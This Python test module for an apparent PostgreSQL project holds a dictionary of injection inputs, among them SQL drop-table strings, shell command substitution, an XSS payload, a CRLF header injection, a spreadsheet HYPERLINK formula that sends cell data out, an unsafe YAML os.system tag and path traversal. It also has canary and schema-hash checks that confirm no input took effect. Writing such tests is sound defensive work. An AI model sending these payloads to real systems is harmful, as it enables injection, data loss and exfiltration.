"""Texts that mean something to SQL, templates, shells, headers, terminals, pages and
spreadsheets, and whether anything took one of them at its word."""

import re
from typing import Any

import stage
from stage import Db

TEXTS = {
    "SQL": "'; drop table pgdrip.contacts; drop table public.canary; --",
    "identifier": '"; drop role pgdrip_app; drop table public.canary; --',
    "dollar quotes": "$$; drop table public.canary; $$ $a$ $1",
    "backslash": "\\'; drop table public.canary; --\\",
    "copy": "\\.\n\\N\tx",
    "format": "%I %s %L %1$s %n %(name)s",
    "template": "{{phone}} {% for x in y %} {{name|{{phone}}}}",
    "shell": "${HOME} $(touch canary) `touch canary`",
    "Python": "{0.__class__} {message.sender_config}",
    "header": "Jane\r\nBcc: all@example.com",
    "HTML": "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'&",
    "formula": '=HYPERLINK("http://example.com?"&A1)',
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m\x7f",
    "direction": "\u202egpj.exe\u2066\u200b",
    "log line": 'x\n{"level": "info", "event": "forged"}',
    "YAML": "!!python/object/apply:os.system ['touch canary']",
    "path": "../nowhere/canary",
    "NUL": "a\0b",
    "surrogate": "a\udcffb",
    "long": "x" * 100_000,
}
NO_TEXT = {"NUL", "surrogate"}  # neither PostgreSQL nor a process takes them as text
STORABLE = {name: text for name, text in TEXTS.items() if name not in NO_TEXT}
SHORT = {name: text for name, text in STORABLE.items() if name != "long"}


def canary(db: Db) -> None:
    """A table that the functions' owner could drop, if a text made them do so."""
    db.execute("create table public.canary as select 'alive' as state")
    db.execute("grant select on public.canary to public")
    db.execute("alter table public.canary owner to pgdrip_owner")


def schema(db: Db) -> dict[str, Any]:
    """What no text may change: objects and their rights, roles, and the canary."""
    return stage.one(
        db,
        "select (select state from public.canary),"
        " (select md5(string_agg(concat_ws(' ', c.oid, c.relname, c.relowner,"
        "                                  c.relacl), '' order by c.oid))"
        "    from pg_catalog.pg_class as c"
        "   where c.relnamespace in ('pgdrip'::regnamespace, 'public'::regnamespace)"
        "     and c.relname not like 'deliveries%') as relations,"
        " (select md5(string_agg(concat_ws(' ', p.oid, p.prosrc, p.proacl), ''"
        "                        order by p.oid)) from pg_catalog.pg_proc as p"
        "   where p.pronamespace in ('pgdrip'::regnamespace, 'public'::regnamespace)"
        " ) as routines,"
        " (select md5(string_agg(concat_ws(' ', r.rolname, r.rolsuper), ''"
        "                        order by r.oid)) from pg_catalog.pg_roles as r"
        "   where r.rolname ~ '^pgdrip_[a-z]+$') as roles,"
        " (select count(*) from pg_catalog.pg_namespace as n"
        "   where n.nspname !~ '^pg_') as schemas",
    )


def is_quiet(text: str) -> bool:
    """Whether nothing in it moves a cursor or hides text; colours may be."""
    text = re.sub(r"\x1b\[[0-9;]+m", "", text)
    return all(line.isprintable() for line in text.replace("\t", " ").split("\n"))
